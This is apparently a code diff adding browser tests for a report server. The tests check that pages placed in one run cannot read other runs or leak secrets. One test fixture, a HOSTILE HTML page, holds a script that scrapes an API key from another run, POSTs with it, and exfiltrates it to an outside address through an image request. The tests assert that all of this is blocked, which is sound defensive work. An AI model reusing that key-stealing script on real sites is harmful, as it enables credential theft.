@@ -615,3 +615,85 @@ def test_edges_alone_are_drawn_from_the_rendering(browser: Browser, tmp_path: Pa
             opaque = [k for k, alpha in enumerate(page.locator(".camera canvas").evaluate(drawn)) if alpha > 200]
             assert set(opaque) >= {15, 16, 47, 48}
             assert all(min(abs(k - 15.5), abs(k - 47.5)) < 3 for k in opaque)
+
+
+HOSTILE = """<!doctype html><html><body><p>a report</p><img id="shown" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
+<img src="../first/pictures/0000/3.jpg"><iframe src="../first/"></iframe><script>(async () => {
+document.title = "ran";
+const key = (await (await fetch("../first/align/")).text()).match(/"key": "([^"]+)"/)[1];
+await fetch("../first/align/renderings/3", {method: "POST", body: "x", headers: {"X-Advsearch-Key": key}});
+new Image().src = "ELSEWHERE" + key; })()</script><form id="form" method="post" action="../first/align/renderings/3">
+<input name="x"></form></body></html>"""
+"""A page that somebody else put into a run: it would read another run and the key for photographs, and send both."""
+
+
+def hostile_run(sweep: Path, attack: Path, elsewhere: str) -> Path:
+    """A run beside another, with such a page."""
+    run = sweep.parent / "hostile"
+    if not run.exists():
+        shutil.copytree(attack, run)
+    (run / "report.html").write_text(HOSTILE.replace("ELSEWHERE", elsewhere))
+    return run
+
+
+def test_the_page_of_somebody_elses_run_reads_and_sends_nothing(browser: Browser, sweep: Path, attack: Path) -> None:
+    with serving(sweep) as elsewhere, serving(sweep, hostile_run(sweep, attack, elsewhere.address)) as server:
+        context = browser.new_context()
+        page, asked = context.new_page(), list[str]()
+        page.on("response", lambda one: asked.append(one.url))
+        page.goto(f"{server.address}runs/hostile/")
+        page.wait_for_timeout(500)
+        assert page.title() != "ran"
+        assert [one for one in asked if one.startswith("http")] == [f"{server.address}runs/hostile/"]
+        assert page.locator("nav .remarks, nav + .remarks").inner_text().startswith("Its scripts are of another")
+        # Whatever ran there all the same would have an origin of its own, and be refused by the server as well.
+        blocked = page.evaluate("""async () => {
+            const tried = [() => fetch("../first/"), () => fetch("../first/rows"), () => fetch("ELSEWHERE"),
+                () => fetch("../first/align/renderings/3", {method: "POST", body: "x"}), () => localStorage.length];
+            const ends = await Promise.all(tried.map(async (one) => {
+                try { await one(); return "done"; } catch { return "refused"; }}));
+            document.getElementById("form").submit();
+            return [self.origin, ...ends];
+        }""".replace("ELSEWHERE", elsewhere.address))  # fmt: skip
+        page.wait_for_timeout(300)
+        assert blocked == ["null", *["refused"] * 5]
+        assert page.url == f"{server.address}runs/hostile/"
+        context.close()
+
+
+def test_without_the_pages_policy_the_server_refuses_it_too(browser: Browser, sweep: Path, attack: Path) -> None:
+    """The policies that a browser keeps are switched off: a page of another origin is refused by what it sends."""
+    with serving(sweep, hostile_run(sweep, attack, "")) as server:
+        context = browser.new_context(bypass_csp=True)
+        page = context.new_page()
+        page.goto("data:text/html,<p>another origin</p>")
+        sent = page.evaluate("""async (there) => Promise.all([
+            fetch(there, {mode: "no-cors"}), fetch(there, {method: "POST", mode: "no-cors", body: "x"}),
+        ].map((one) => one.then(() => "done", () => "refused")))""", f"{server.address}runs/first/")  # fmt: skip
+        assert sent == ["refused", "refused"]  # Cross-Origin-Resource-Policy, which is no policy of the page
+        context.close()
+
+
+def test_our_own_pages_run_with_an_origin_of_their_own(browser: Browser, attack: Path, sweep: Path) -> None:
+    """Scripts run, pictures show, and links lead back, where the page has no part of the server's origin."""
+    with serving(attack, sweep) as server, opened(browser, f"{server.address}runs/attack/") as page:
+        assert page.evaluate("self.origin") == "null"
+        assert page.locator(".remarks", has_text="Its scripts are of another").count() == 0
+        until(page, lambda: page.locator("#object canvas").count())
+        sizes = page.locator("img").evaluate_all("all => all.map((one) => one.complete && one.naturalWidth)")
+        assert sizes and all(sizes)
+        page.get_by_role("link", name="All runs").click()
+        page.wait_for_url(server.address)
+        assert page.locator("table.runs tbody tr").count() == 2
+
+
+def test_a_page_leads_back_beyond_this_machine_too(browser: Browser, attack: Path) -> None:
+    """The cookie with the token goes along, although the page has an origin of its own."""
+    with serving(attack, host="0.0.0.0") as server:
+        home = server.address.partition("?")[0]
+        with opened(browser, server.address, ignore_https_errors=True) as page:
+            page.get_by_role("link", name="attack", exact=True).click()
+            page.wait_for_url(f"{home}runs/attack/")
+            page.get_by_role("link", name="All runs").click()
+            page.wait_for_url(home)
+            assert page.locator("table.runs").count() == 1
